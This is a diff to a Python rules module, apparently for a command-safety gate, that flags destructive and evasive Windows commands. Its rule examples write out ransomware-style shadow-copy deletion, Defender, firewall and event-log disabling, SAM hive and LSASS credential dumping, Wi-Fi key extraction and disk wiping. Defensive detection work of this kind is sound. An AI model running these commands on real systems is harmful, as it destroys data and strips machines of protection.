@@ -1,75 +1,767 @@
-"""Windows rules: cmd.exe and PowerShell destruction, persistence, downloads and privilege."""
+"""Windows, cmd.exe and the system's own tools: deletion of roots, the registry, boot and recovery,
+shadow copies, services, Defender and the firewall, event logs, credential dumping, disks.
+
+What is catastrophic (docs/gate.md): irreversible loss of the machine, a disk, a home directory
+or the operating system's security, boot or recovery. Here that is deleting a drive root, the
+Windows directory, Program Files, Users or a profile (or everything inside one); deleting the
+system hives (HKLM\\SYSTEM, SAM, SECURITY, BCD, the core of HKLM\\SOFTWARE); deleting boot
+entries or turning off recovery; deleting shadow copies and backup catalogs; deleting,
+stopping or disabling a security, logging or recovery service; turning off Defender or the
+firewall (by setting, registry, service or definitions); clearing or disabling event logs;
+dumping credentials (LSASS, the SAM/SYSTEM/SECURITY hives, NTDS.dit, saved Wi-Fi keys);
+formatting or cleaning a disk. Ordinary deletes, other registry writes, other services,
+scheduled tasks and accounts are dangerous: a person decides.
+
+Read-only proofs (option tables, `engine/gate/proof.py`) cover the Windows-only read tools:
+`ipconfig`, `tasklist`, `systeminfo`, `reg query`, `sc query`, `netsh … show`, `vssadmin
+list`, `bcdedit /enum`, `wmic … get`, `schtasks /query`, `wevtutil el|qe`, … . Programs that
+share a name with a Unix tool (`dir`, `type`, `echo`, `whoami`, `hostname`, `tree`, `find`,
+`sort`) keep the Unix table; their Windows write forms are rules here (`sort /o`).
+"""
 
 from __future__ import annotations
 
 import re
 
+from engine.gate import paths, winpath
 from engine.gate.packs.model import CATASTROPHIC, DANGEROUS, IRREVERSIBLE, Pack, rule
+from engine.gate.proof import Options, options
+from engine.gate.shell.view import Command
 
-_DRIVE_ROOT = re.compile(r"^[A-Za-z]:[\\/]?(?:\*(?:\.\*)?)?$|^[A-Za-z]:[\\/]?(?:windows|users|program files)[\\/]?$", re.I)
+SECURITY_SERVICES = frozenset(
+    "windefend wdnissvc wdnisdrv wdfilter wdboot sense securityhealthservice wscsvc mpssvc mpsdrv bfe eventlog"
+    " wecsvc sysmon sysmon64 vss swprv wbengine sdrsvc msmpsvc samss keyiso appidsvc"
+    " csagent csfalconservice sentinelagent cylancesvc mbamservice".split()
+)
+SECURITY_PROCESSES = frozenset(
+    "msmpeng nissrv mssense securityhealthservice sense mpdefendercoreservice smartscreen sysmon sysmon64"
+    " csfalconservice sentinelagent cylancesvc mbamservice".split()
+)
+_SECURITY_NAME = re.compile(r"(?i)defender|firewall|security center|event ?log|volume shadow|antivirus|antimalware")
+_HIVES = {"hklm": "hklm", "hkey_local_machine": "hklm", "hkcu": "hkcu", "hkey_current_user": "hkcu",
+          "hkcr": "hkcr", "hkey_classes_root": "hkcr", "hku": "hku", "hkey_users": "hku",
+          "hkcc": "hkcc", "hkey_current_config": "hkcc"}
+_REGISTRY = re.compile(r"(?i)^(?:microsoft\.powershell\.core[\\/])?(?:registry::)?(?:\\\\[^\\/]+[\\/])?"
+                       r"(hklm|hkcu|hkcr|hku|hkcc|hkey_local_machine|hkey_current_user|hkey_classes_root|hkey_users"
+                       r"|hkey_current_config):?(?:[\\/]+(.*))?$", re.S)
+# Keys whose loss leaves Windows unbootable, without its accounts or its security settings
+# (under HKLM\SYSTEM everything but another program's own service key).
+_SYSTEM_KEYS = re.compile(
+    r"hklm(?:/(?:sam|security|bcd00000000)(?:/.*)?)?"
+    r"|hklm/software(?:/microsoft(?:/(?:windows|windows nt|windows defender|cryptography|windows/currentversion"
+    r"|windows nt/currentversion(?:/winlogon)?|windows/currentversion/policies))?|/classes|/policies"
+    r"|/policies/microsoft(?:/windows defender(?:/.*)?|/windows(?:/windowsfirewall(?:/.*)?)?)?)?"
+    r"|hkcr|hku(?:/[^/]+)?|hkcu|hkcu/software(?:/microsoft(?:/windows(?:/currentversion)?)?)?"
+)
+_CONTROL_SET = re.compile(r"(?<=^system/)(?:current)?controlset\d{0,3}")
+_SERVICE_KEY = re.compile(r"hklm/system/currentcontrolset/services/([^/]+)(?:/.*)?")
+_PROTECTING_VALUES = frozenset({"runasppl", "lsacfgflags", "enablelua", "enablefirewall"})
+_ACCESSIBILITY = re.compile(r"(?:sethc|utilman|osk|magnify|narrator|displayswitch|atbroker)\.exe")
+_ON = frozenset({"1", "$true", "true", "yes", "on", "0x1", "0x00000001"})
+_OFF = frozenset({"0", "$false", "false", "no", "off", "0x0", "0x00000000", "disabled", "disable"})
 
 
-def _flag(cmd, *names: str) -> bool:
+def registry_key(word: str) -> str | None:
+    """A registry path folded to `hklm/system/…` (lower case, `/`), or None when the word is not one."""
+    match = _REGISTRY.match(word.strip().strip("'\""))
+    if match is None:
+        return None
+    rest = (match.group(2) or "").replace("\\", "/").lower()
+    rest = re.sub(r"/{2,}", "/", rest).strip("/").rstrip("*").rstrip("/")
+    rest = _CONTROL_SET.sub("currentcontrolset", rest)
+    hive = _HIVES[match.group(1).lower()]
+    return hive + ("/" + rest if rest else "")
+
+
+def system_key(key: str) -> bool:
+    """A hive root or a key the system cannot do without (deleting it is catastrophic)."""
+    if _SYSTEM_KEYS.fullmatch(key) is not None:
+        return True
+    if key != "hklm/system" and not key.startswith("hklm/system/"):
+        return False
+    service = _SERVICE_KEY.fullmatch(key)
+    return service is None or service.group(1) in SECURITY_SERVICES
+
+
+def registry_delete_catastrophic(key: str, value: str | None) -> bool:
+    """Deleting `key` (or one of its values) loses the system's configuration, accounts or protection."""
+    if value is None:
+        return system_key(key)
+    return key.startswith(("hklm/sam", "hklm/security")) or value.lower().strip("'\"") in _PROTECTING_VALUES and (
+        key.startswith("hklm/"))
+
+
+def security_value(key: str, name: str, data: str) -> bool:
+    """Writing `name = data` under `key` turns off a security control: Defender, the firewall, LSA
+    protection, UAC, or hands a SYSTEM shell to the logon screen (an accessibility debugger)."""
+    name, data = name.lower().strip("'\""), data.lower().strip("'\"")
+    if "windows defender" in key or "microsoft antimalware" in key:
+        if name.startswith("disable") and data not in _OFF:
+            return True
+        if name in ("tamperprotection", "spynetreporting", "mapsreporting") and data in _OFF | {"4"}:
+            return True
+        if name == "submitsamplesconsent" and data in ("2", "neversend"):
+            return True
+    service = re.search(r"/services/([^/]+)$", key)
+    if service and service.group(1) in SECURITY_SERVICES and name == "start" and data in ("3", "4", "0x4", "0x3"):
+        return True
+    if ("firewall" in key) and name == "enablefirewall" and data in _OFF:
+        return True
+    if key.endswith("/control/lsa") and name in ("runasppl", "lsacfgflags") and data in _OFF:
+        return True
+    if key.endswith("/wdigest") and name == "uselogoncredential" and data in _ON:
+        return True
+    if key.endswith("policies/system") and name in ("enablelua", "consentpromptbehavioradmin") and data in _OFF:
+        return True
+    if "image file execution options/" in key and _ACCESSIBILITY.search(key) and name == "debugger":
+        return True
+    return "/control/safeboot" in key
+
+
+def security_service(name: str) -> bool:
+    """A security, logging or recovery service (by service name or display name)."""
+    text = name.strip().strip("'\"").lower()
+    return text in SECURITY_SERVICES or _SECURITY_NAME.search(text) is not None
+
+
+def _lower(cmd: Command) -> list[str]:
+    return [a.lower() for a in cmd.args]
+
+
+def _operands(cmd: Command) -> list[str]:
+    """Arguments that are not `/x` switches."""
+    return [a for a in cmd.args if not (a.startswith("/") and len(a) > 1 and "/" not in a[1:])]
+
+
+def _switch(cmd: Command, *names: str) -> bool:
     for arg in cmd.args:
-        if arg.lower() in names:
+        head = arg.lower().split(":", 1)[0]
+        if head in names:
             return True
     return False
 
 
+def _joined(path: str, cwd: str | None) -> str:
+    """A relative Windows path read against the directory the script moved to."""
+    if cwd is None or winpath.looks_windows(path) and path[1:2] == ":" or path.startswith(("/", "\\", "~", "$")):
+        return path
+    return cwd.rstrip("/\\") + "/" + path
+
+
+def root_target(cmd: Command, path: str) -> bool:
+    full = _joined(path, cmd.cwd)
+    return winpath.is_root(full) or paths.is_root(full)
+
+
+def contents_target(path: str) -> bool:
+    """`C:\\Windows\\*`, `%SystemRoot%\\System32\\*.*`: everything directly inside a root."""
+    text = path.replace("\\", "/").rstrip()
+    return text.endswith(("/*", "/*.*")) and winpath.is_root(text)
+
+
+def _cmd_delete_root(cmd: Command) -> str | bool:
+    recursive = _switch(cmd, "/s")
+    for path in _operands(cmd):
+        if recursive and root_target(cmd, path):
+            return path
+        if cmd.name in ("del", "erase") and contents_target(_joined(path, cmd.cwd)):
+            return path
+    return False
+
+
+def _cmd_delete_system(cmd: Command) -> bool:
+    return any(winpath.is_system(_joined(p, cmd.cwd)) or paths.is_system(p) for p in _operands(cmd))
+
+
+def security_log(path: str) -> bool:
+    """An event log file or the folder that holds them."""
+    folded = winpath.fold(path)
+    return "/winevt/logs" in folded or folded.endswith(".evtx") and "/system32/" in folded
+
+
+def _reg(cmd: Command) -> tuple[str, str | None, list[str]]:
+    args = _lower(cmd)
+    verb = args[0] if args else ""
+    key = registry_key(cmd.args[1]) if len(cmd.args) > 1 else None
+    return verb, key, args
+
+
+def _reg_value(args: list[str], flag: str) -> str:
+    for i, arg in enumerate(args):
+        if arg == flag and i + 1 < len(args):
+            return args[i + 1]
+    return ""
+
+
+def _reg_delete_system(cmd: Command) -> bool:
+    verb, key, args = _reg(cmd)
+    if verb != "delete" or key is None:
+        return False
+    value = _reg_value(args, "/v") if "/v" in args else "" if "/ve" in args else None
+    return registry_delete_catastrophic(key, value)
+
+
+def _reg_security(cmd: Command) -> bool:
+    verb, key, args = _reg(cmd)
+    return verb == "add" and key is not None and security_value(key, _reg_value(args, "/v"), _reg_value(args, "/d"))
+
+
+def _reg_save(cmd: Command) -> bool:
+    verb, key, _ = _reg(cmd)
+    return verb in ("save", "export") and key is not None and key.startswith(("hklm/sam", "hklm/system", "hklm/security"))
+
+
+def _sc_security(cmd: Command) -> bool:
+    args = [a for a in _lower(cmd) if not a.startswith("\\\\")]
+    if len(args) < 2 or args[0] not in ("stop", "delete", "config", "pause", "failure", "sdset"):
+        return False
+    if not security_service(args[1]):
+        return False
+    if args[0] != "config":
+        return True
+    text = " ".join(args[2:])
+    return re.search(r"start=\s*(?:disabled|demand)", text) is not None or "binpath=" in text
+
+
+def _net_stop_security(cmd: Command) -> bool:
+    args = _lower(cmd)
+    return len(args) > 1 and args[0] in ("stop", "pause") and security_service(" ".join(args[1:]))
+
+
+def _vss_resize_small(cmd: Command) -> bool:
+    """`vssadmin resize shadowstorage /maxsize=…` small enough to drop the copies it holds."""
+    args = _lower(cmd)
+    if args[:2] != ["resize", "shadowstorage"]:
+        return False
+    size = next((a.split("=", 1)[1] for a in args if a.startswith("/maxsize=")), "")
+    found = re.fullmatch(r"(\d+(?:\.\d+)?)\s*(%|kb|mb|gb|tb|b)?", size)
+    if found is None:
+        return size != "unbounded"
+    amount, unit = float(found.group(1)), found.group(2) or "b"
+    return unit in ("b", "kb", "mb") or unit == "%" and amount < 5 or unit == "gb" and amount < 2
+
+
+def _bcd_catastrophic(cmd: Command) -> bool:
+    args = _lower(cmd)
+    if _switch(cmd, "/delete", "/deletevalue"):
+        return True
+    text = " ".join(args)
+    return re.search(r"recoveryenabled\s+(?:no|off|0|false)|bootstatuspolicy\s+ignore|testsigning\s+(?:on|yes)"
+                     r"|nointegritychecks\s+(?:on|yes)|disabledynamictick|recoverysequence", text) is not None
+
+
+def _bcd_changes(cmd: Command) -> bool:
+    return any(a.split(":", 1)[0] not in ("/enum", "/v", "/?", "/store") and a.startswith("/") for a in _lower(cmd)) \
+        or not cmd.args
+
+
+def _wevtutil_clear(cmd: Command) -> bool:
+    args = _lower(cmd)
+    if not args:
+        return False
+    if args[0] in ("sl", "set-log"):
+        return any(re.fullmatch(r"/(?:e|enabled):(?:false|0|no)", a) for a in args)
+    return args[0] in ("cl", "clear-log", "um", "uninstall-manifest")
+
+
+_SC_CHANGES = frozenset("start stop pause continue config create failure sdset control privs sidtype triggerinfo"
+                        " description delete".split())
+
+
+def _service_change(cmd: Command) -> bool:
+    args = _lower(cmd)
+    if cmd.name == "sc":
+        args = [a for a in args if not a.startswith("\\\\")]
+        return bool(args) and args[0] in _SC_CHANGES
+    return len(args) > 1 and args[0] in ("start", "stop", "pause", "continue")
+
+
+def _auditpol_off(cmd: Command) -> bool:
+    args = _lower(cmd)
+    return any(a in ("/clear", "/remove") for a in args) or any(a.startswith("/set") for a in args) and any(
+        a in ("/success:disable", "/failure:disable") for a in args)
+
+
+def _hive_copy(cmd: Command) -> str | bool:
+    """A copy of NTDS.dit or of the SAM, SYSTEM or SECURITY hive (live or from a shadow copy)."""
+    for arg in cmd.args:
+        folded = arg.replace("\\", "/").lower().strip("'\"")
+        if folded.endswith("ntds.dit") or re.search(r"(?:^|/)config/(?:sam|system|security)$", folded):
+            return arg
+    return False
+
+
+def _lsass_dump(cmd: Command) -> bool:
+    text = cmd.text.lower()
+    return "lsass" in text and (cmd.name.startswith("procdump") or cmd.name in ("sqldumper", "createdump", "rdrleakdiag",
+                                                                                   "dumpert", "nanodump", "ppldump"))
+
+
+def _comsvcs(cmd: Command) -> bool:
+    text = cmd.text.lower()
+    return "comsvcs" in text and ("minidump" in text or "#24" in text)
+
+
+def _ntdsutil(cmd: Command) -> bool:
+    text = cmd.text.lower()
+    return "ifm" in text or "ac i ntds" in text or "activate instance ntds" in text or "snapshot" in text
+
+
+def _esentutl(cmd: Command) -> bool:
+    return bool(_hive_copy(cmd)) or "/vss" in cmd.text.lower()
+
+
+def _wifi_keys(cmd: Command) -> bool:
+    args = _lower(cmd)
+    return "wlan" in args and "key=clear" in args
+
+
+def _netsh_firewall_off(cmd: Command) -> bool:
+    text = " ".join(_lower(cmd))
+    return re.search(r"(?:advfirewall\s+set\s+\w{0,20}\s*state\s+off|firewall\s+set\s+opmode\s+(?:mode=)?disable"
+                     r"|advfirewall\s+set\s+\w{0,20}\s*firewallpolicy\s+\w{0,20},?allowinbound"
+                     r"|firewall\s+set\s+opmode\s+disable)", text) is not None
+
+
+def _netsh_changes(cmd: Command) -> bool:
+    args = _lower(cmd)
+    return not any(a in ("show", "dump", "help", "?", "/?") for a in args) and bool(args)
+
+
+def _format(cmd: Command) -> bool:
+    return any(re.fullmatch(r"[a-z]:[\\/]?", a, re.I) or winpath.is_device(a) for a in cmd.args) and "/?" not in cmd.args
+
+
+def _diskpart_wipe(cmd: Command) -> bool:
+    text = ((cmd.stdin or "") + " " + cmd.upstream).lower()
+    return re.search(r"\b(?:clean|format|delete\s+(?:partition|volume|disk)|convert|create\s+partition)\b", text) is not None
+
+
+def _delete_partition_words(text: str) -> bool:
+    return re.search(r"(?i)\b(?:clean|format|delete\s+(?:partition|volume|disk)|convert)\b", text) is not None
+
+
+def _robocopy_purge(cmd: Command) -> bool:
+    args = _lower(cmd)
+    operands = [a for a in cmd.args if not a.startswith("/")]
+    return ("/mir" in args or "/purge" in args) and len(operands) >= 2 and root_target(cmd, operands[1])
+
+
+def _taskkill_security(cmd: Command) -> bool:
+    args = _lower(cmd)
+    names = [args[i + 1].removesuffix(".exe") for i, a in enumerate(args[:-1]) if a == "/im"]
+    return any(name in SECURITY_PROCESSES or name == "*" for name in names)
+
+
+def _wmic_delete(cmd: Command) -> bool:
+    args = _lower(cmd)
+    return "shadowcopy" in args and "delete" in args
+
+
+def _wbadmin(cmd: Command) -> bool:
+    args = _lower(cmd)
+    return len(args) > 1 and args[0] == "delete" and args[1] in ("catalog", "systemstatebackup", "backup")
+
+
+def _mpcmdrun(cmd: Command) -> bool:
+    return any(a in ("-removedefinitions", "/removedefinitions") for a in _lower(cmd)) and "-dynamicsignatures" not in _lower(cmd)
+
+
+def _dism_defender(cmd: Command) -> bool:
+    text = cmd.text.lower()
+    return ("/disable-feature" in text or "/remove-package" in text) and "defender" in text
+
+
+def _sdelete_root(cmd: Command) -> bool:
+    return any(root_target(cmd, a) for a in cmd.args if not a.startswith("-"))
+
+
+def _net_user_delete(cmd: Command) -> bool:
+    args = _lower(cmd)
+    return bool(args) and args[0] in ("user", "localgroup", "group") and "/delete" in args
+
+
+def _sort_output(cmd: Command) -> bool:
+    return any(a.lower().startswith(("/o", "/output")) for a in cmd.args)
+
+
+def _sets_clock(cmd: Command) -> bool:
+    return any(not a.startswith(("-", "+", "/")) for a in cmd.args)
+
+
+_DELETE_NAMES = "del erase rd rmdir"
+
 RULES = [
-    rule("win.delete-drive", CATASTROPHIC, "windows fs", "recursively deletes a drive root or Windows directory",
-         names="del erase rd rmdir remove-item ri rm", tier=IRREVERSIBLE,
-         test=lambda c: (_flag(c, "/s", "-recurse", "-r") or c.name in ("rd", "rmdir") and _flag(c, "/s"))
-         and any(_DRIVE_ROOT.match(a) for a in c.args),
-         examples=["del /s /q C:\\", "rd /s /q C:\\Windows", "Remove-Item -Recurse -Force C:\\"],
-         counter=["del /q build\\out.txt"]),
-    rule("win.delete", DANGEROUS, "windows fs", "deletes files", names="del erase rd remove-item ri",
-         examples=["del /q file.txt", "Remove-Item x.txt"], counter=["dir"]),
-    rule("win.format", CATASTROPHIC, "windows fs", "formats or wipes a disk", names="format diskpart cipher format-volume clear-disk",
-         tier=IRREVERSIBLE, test=lambda c: c.name != "cipher" or any(a.lower().startswith("/w") for a in c.args),
-         examples=["format C: /q", "diskpart", "cipher /w:C:\\"], counter=["cipher /?x"]),
-    rule("win.shadow-delete", CATASTROPHIC, "windows evasion", "deletes volume shadow copies (ransomware step)",
-         names="vssadmin wmic wbadmin bcdedit", tier=IRREVERSIBLE,
-         args=r"(?i)delete\s+shadows|shadowcopy\s+delete|delete\s+catalog|recoveryenabled\s+no|bootstatuspolicy",
-         examples=["vssadmin delete shadows /all /quiet", "wmic shadowcopy delete"], counter=["vssadmin list shadows"]),
-    rule("win.registry", DANGEROUS, "windows evasion", "changes the registry", names="reg regedit set-itemproperty new-itemproperty",
-         test=lambda c: c.name != "reg" or (bool(c.operands) and c.operands[0].lower() in ("add", "delete", "import", "load", "restore", "copy")),
-         examples=["reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d evil.exe"],
+    rule("win.delete-drive", CATASTROPHIC, "windows fs",
+         "recursively deletes a drive root, the Windows directory, Program Files, Users or a profile",
+         names=_DELETE_NAMES, tier=IRREVERSIBLE, test=_cmd_delete_root, cite=True,
+         examples=["del /s /q C:\\", "rd /s /q C:\\Windows", "rd /s /q %SystemRoot%", "rd/s/q \"C:\\\"",
+                   "del /f /s /q %USERPROFILE%\\*", "rmdir /s /q %windir%\\System32\\config\\",
+                   "del /q %SystemRoot%\\System32\\*.*", "for /d %i in (C:\\*) do rd /s /q \"%i\""],
+         counter=["del /q build\\out.txt", "rd /s /q build", "rd /s /q %TEMP%\\cache"]),
+    rule("win.delete-system", DANGEROUS, "windows fs", "deletes files under the Windows directory or Program Files",
+         names=_DELETE_NAMES, tier=IRREVERSIBLE, test=_cmd_delete_system,
+         examples=["del C:\\Windows\\Temp\\x.log"], counter=["del x.log"]),
+    rule("win.delete", DANGEROUS, "windows fs", "deletes files", names="del erase rd",
+         examples=["del /q file.txt", "rd build"], counter=["dir"]),
+    rule("win.delete-log", CATASTROPHIC, "windows evasion", "deletes the Windows event logs",
+         names=_DELETE_NAMES + " remove-item", tier=IRREVERSIBLE,
+         test=lambda c: any(security_log(_joined(a, c.cwd)) for a in c.args),
+         examples=["del /f /q %SystemRoot%\\System32\\winevt\\Logs\\Security.evtx"], counter=["del app.evtx"]),
+    rule("win.robocopy-purge", CATASTROPHIC, "windows fs", "robocopy /MIR or /PURGE deletes everything in a root it mirrors onto",
+         names="robocopy", tier=IRREVERSIBLE, test=_robocopy_purge,
+         examples=["robocopy C:\\empty C:\\Windows /MIR", "robocopy empty %USERPROFILE% /PURGE"],
+         counter=["robocopy src dst /MIR"]),
+    rule("win.robocopy", DANGEROUS, "windows fs", "copies or mirrors directory trees (/MIR deletes)", names="robocopy xcopy",
+         examples=["robocopy src dst /MIR"], counter=["dir"]),
+    rule("win.format", CATASTROPHIC, "windows fs", "formats a disk or volume", names="format", tier=IRREVERSIBLE,
+         test=_format, examples=["format C: /q", "format D: /FS:NTFS /Q /Y"], counter=["format /?"]),
+    rule("win.diskpart-wipe", CATASTROPHIC, "windows fs", "diskpart is fed commands that clean, format or delete a disk",
+         names="diskpart", tier=IRREVERSIBLE, test=_diskpart_wipe,
+         examples=["(echo select disk 0 & echo clean) | diskpart"], counter=["diskpart /?"]),
+    rule("win.diskpart-script", CATASTROPHIC, "windows fs", "a diskpart script that cleans, formats or deletes is written and run",
+         raw="always", needles="diskpart", tier=IRREVERSIBLE,
+         args=r"(?is)\b(?:clean|format|delete\s{1,4}(?:partition|volume|disk))\b.{0,400}\bdiskpart\b",
+         examples=["echo select disk 0 > wipe.txt & echo clean all >> wipe.txt & diskpart /s wipe.txt"],
+         counter=["diskpart /s list.txt"]),
+    rule("win.diskpart", DANGEROUS, "windows fs", "runs diskpart (partitions and volumes)", names="diskpart",
+         tier=IRREVERSIBLE, examples=["diskpart /s script.txt"], counter=["dir"]),
+    rule("win.wipe", DANGEROUS, "windows fs", "overwrites free space or files so they cannot be recovered",
+         names="cipher sdelete sdelete64", tier=IRREVERSIBLE,
+         test=lambda c: c.name != "cipher" or any(a.lower().startswith(("/w", "/x")) for a in c.args),
+         examples=["cipher /w:C:\\", "sdelete -z C:"], counter=["cipher /?"]),
+    rule("win.sdelete-root", CATASTROPHIC, "windows fs", "securely deletes a root so it cannot be recovered",
+         names="sdelete sdelete64", tier=IRREVERSIBLE, test=_sdelete_root,
+         examples=["sdelete -s -q C:\\Users"], counter=["sdelete -s build"]),
+    rule("win.shadow-delete", CATASTROPHIC, "windows evasion", "deletes volume shadow copies or backups (a ransomware step)",
+         names="vssadmin wmic wbadmin", tier=IRREVERSIBLE,
+         test=lambda c: (c.name == "vssadmin" and (_lower(c)[:2] == ["delete", "shadows"] or _vss_resize_small(c))
+                         or c.name == "wmic" and _wmic_delete(c) or c.name == "wbadmin" and _wbadmin(c)),
+         examples=["vssadmin delete shadows /all /quiet", "wmic shadowcopy delete", "wbadmin delete catalog -quiet",
+                   "vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB",
+                   "vssadmin.exe Delete Shadows /For=C: /Oldest /Quiet"],
+         counter=["vssadmin list shadows", "vssadmin resize shadowstorage /for=C: /on=C: /maxsize=20%"]),
+    rule("win.diskshadow", CATASTROPHIC, "windows evasion", "diskshadow is told to delete shadow copies",
+         names="diskshadow", tier=IRREVERSIBLE,
+         test=lambda c: "delete shadows" in ((c.stdin or "") + " " + c.upstream).lower(),
+         examples=["echo delete shadows all | diskshadow"], counter=["diskshadow /?"]),
+    rule("win.vss", DANGEROUS, "windows evasion", "changes shadow copies or backups", names="vssadmin wbadmin diskshadow",
+         test=lambda c: not c.args or _lower(c)[0] not in ("list", "get", "/?"),
+         examples=["vssadmin create shadow /for=C:", "wbadmin start backup"], counter=["vssadmin list writers"]),
+    rule("win.boot-delete", CATASTROPHIC, "windows evasion", "deletes boot entries or turns off recovery and integrity checks",
+         names="bcdedit", tier=IRREVERSIBLE, test=_bcd_catastrophic,
+         examples=["bcdedit /set {default} recoveryenabled No", "bcdedit /set {default} bootstatuspolicy ignoreallfailures",
+                   "bcdedit /delete {current} /f", "bcdedit.exe /deletevalue {bootmgr} device", "bcdedit /set testsigning on"],
+         counter=["bcdedit /enum"]),
+    rule("win.boot", DANGEROUS, "windows evasion", "changes the boot configuration or boot records",
+         names="bcdedit bootrec bcdboot bootsect", tier=IRREVERSIBLE,
+         test=lambda c: c.name != "bcdedit" or _bcd_changes(c),
+         examples=["bcdedit /set {current} safeboot minimal", "bootrec /fixmbr"], counter=["bcdedit /enum all /v"]),
+    rule("win.recovery-off", CATASTROPHIC, "windows evasion", "turns off the Windows Recovery Environment",
+         names="reagentc", tier=IRREVERSIBLE, test=lambda c: "/disable" in _lower(c),
+         examples=["reagentc /disable"], counter=["reagentc /info"]),
+    rule("win.recovery", DANGEROUS, "windows evasion", "changes the Windows Recovery Environment", names="reagentc",
+         test=lambda c: "/info" not in _lower(c), examples=["reagentc /setreimage /path R:\\x"], counter=["reagentc /info"]),
+    rule("win.registry-delete-system", CATASTROPHIC, "windows evasion",
+         "deletes system registry keys (SYSTEM, SAM, SECURITY, BCD or the core of SOFTWARE)",
+         names="reg", tier=IRREVERSIBLE, test=_reg_delete_system,
+         examples=["reg delete HKLM\\SYSTEM\\CurrentControlSet\\Control\\SafeBoot /f", "reg delete HKEY_LOCAL_MACHINE\\SYSTEM /va /f",
+                   "reg delete \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\" /f"],
+         counter=["reg delete HKCU\\Software\\Acme\\Editor /f", "reg delete HKLM\\SOFTWARE\\Acme /f"]),
+    rule("win.registry-security", CATASTROPHIC, "windows evasion",
+         "turns off Defender, the firewall, LSA protection or UAC in the registry",
+         names="reg", tier=IRREVERSIBLE, test=_reg_security,
+         examples=["reg add \"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\" /v DisableAntiSpyware /t REG_DWORD /d 1 /f",
+                   "reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinDefend /v Start /t REG_DWORD /d 4 /f",
+                   "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1"],
+         counter=["reg add HKCU\\Software\\Acme /v Theme /d dark /f"]),
+    rule("win.registry-hive-dump", CATASTROPHIC, "windows creds", "saves the SAM, SYSTEM or SECURITY hive (password hashes)",
+         names="reg", tier=IRREVERSIBLE, test=_reg_save,
+         examples=["reg save HKLM\\SAM C:\\temp\\sam.hiv", "reg save hklm\\system system.save"],
+         counter=["reg export HKCU\\Software\\Acme acme.reg"]),
+    rule("win.registry", DANGEROUS, "windows evasion", "changes, loads or exports the registry", names="reg regedit regini",
+         test=lambda c: c.name != "reg" or (bool(c.operands) and c.operands[0].lower() in (
+             "add", "delete", "import", "load", "unload", "restore", "copy", "save", "export", "flags")),
+         examples=["reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d evil.exe",
+                   "reg export HKCU\\Software\\Acme acme.reg"],
          counter=["reg query HKCU\\Software"]),
-    rule("win.schtasks", DANGEROUS, "windows evasion", "creates or changes scheduled tasks", names="schtasks register-scheduledtask",
-         test=lambda c: c.name != "schtasks" or _flag(c, "/create", "/change", "/delete", "/run"),
-         examples=["schtasks /create /tn x /tr evil.exe /sc onlogon"], counter=["schtasks /query"]),
-    rule("win.accounts", DANGEROUS, "windows creds", "creates users or changes group membership", names="net net1 add-localgroupmember new-localuser",
-         test=lambda c: c.name != "net" or (bool(c.operands) and c.operands[0].lower() in ("user", "localgroup", "group", "share", "use")),
-         tier=IRREVERSIBLE, examples=["net user administrator Password123!", "net localgroup administrators bob /add"],
-         counter=["net start"]),
-    rule("win.acl", DANGEROUS, "windows fs", "takes ownership or grants broad file permissions", names="icacls takeown cacls",
-         test=lambda c: c.name != "icacls" or _flag(c, "/grant", "/setowner", "/reset", "/remove", "/deny"),
+    rule("win.service-security", CATASTROPHIC, "windows evasion",
+         "stops, deletes or disables a security, logging or recovery service (Defender, firewall, event log, VSS)",
+         names="sc net net1", tier=IRREVERSIBLE,
+         test=lambda c: _sc_security(c) if c.name == "sc" else _net_stop_security(c),
+         examples=["sc stop WinDefend", "sc.exe config WinDefend start= disabled", "sc delete WinDefend", "sc delete VSS",
+                   "sc config MpsSvc start= disabled", "net stop \"Windows Defender Antivirus Service\"", "sc delete EventLog"],
+         counter=["sc query WinDefend", "sc stop Spooler"]),
+    rule("win.service-delete", DANGEROUS, "windows exec", "deletes a service", names="sc", tier=IRREVERSIBLE,
+         test=lambda c: bool(c.args) and c.args[0].lower() == "delete",
+         examples=["sc delete AcmeUpdater"], counter=["sc qc AcmeUpdater"]),
+    rule("win.service", DANGEROUS, "windows exec", "starts, stops, creates or reconfigures a service", names="sc net net1",
+         test=_service_change,
+         examples=["sc stop Spooler", "sc create x binPath= C:\\x.exe", "net stop Spooler"], counter=["net start"]),
+    rule("win.firewall-off", CATASTROPHIC, "windows net evasion", "turns off the Windows firewall", names="netsh",
+         tier=IRREVERSIBLE, test=_netsh_firewall_off,
+         examples=["netsh advfirewall set allprofiles state off", "netsh firewall set opmode disable",
+                   "netsh advfirewall set currentprofile state off"],
+         counter=["netsh advfirewall show allprofiles"]),
+    rule("win.netsh", DANGEROUS, "windows net", "changes network, firewall or proxy settings", names="netsh",
+         test=_netsh_changes, examples=["netsh advfirewall firewall add rule name=x dir=in action=allow protocol=TCP localport=4444",
+                                        "netsh interface portproxy add v4tov4 listenport=80 connectaddress=10.0.0.1"],
+         counter=["netsh interface ip show config"]),
+    rule("win.wifi-keys", CATASTROPHIC, "windows creds", "prints saved Wi-Fi passwords in clear text", names="netsh",
+         tier=IRREVERSIBLE, test=_wifi_keys,
+         examples=["netsh wlan show profile name=\"Office\" key=clear"], counter=["netsh wlan show profiles"]),
+    rule("win.defender-definitions", CATASTROPHIC, "windows evasion", "removes Defender's malware definitions",
+         names="mpcmdrun", tier=IRREVERSIBLE, test=_mpcmdrun,
+         examples=["\"C:\\Program Files\\Windows Defender\\MpCmdRun.exe\" -RemoveDefinitions -All"],
+         counter=["MpCmdRun.exe -SignatureUpdate"]),
+    rule("win.defender-feature", CATASTROPHIC, "windows evasion", "removes the Windows Defender feature", names="dism",
+         tier=IRREVERSIBLE, test=_dism_defender,
+         examples=["dism /online /disable-feature /featurename:Windows-Defender /remove /norestart"],
+         counter=["dism /online /get-features"]),
+    rule("win.eventlog-clear", CATASTROPHIC, "windows evasion", "clears, disables or uninstalls Windows event logs",
+         names="wevtutil", tier=IRREVERSIBLE, test=_wevtutil_clear,
+         examples=["wevtutil cl Security", "wevtutil clear-log System", "wevtutil sl Security /e:false",
+                   "for /F \"tokens=*\" %1 in ('wevtutil.exe el') DO wevtutil.exe cl \"%1\""],
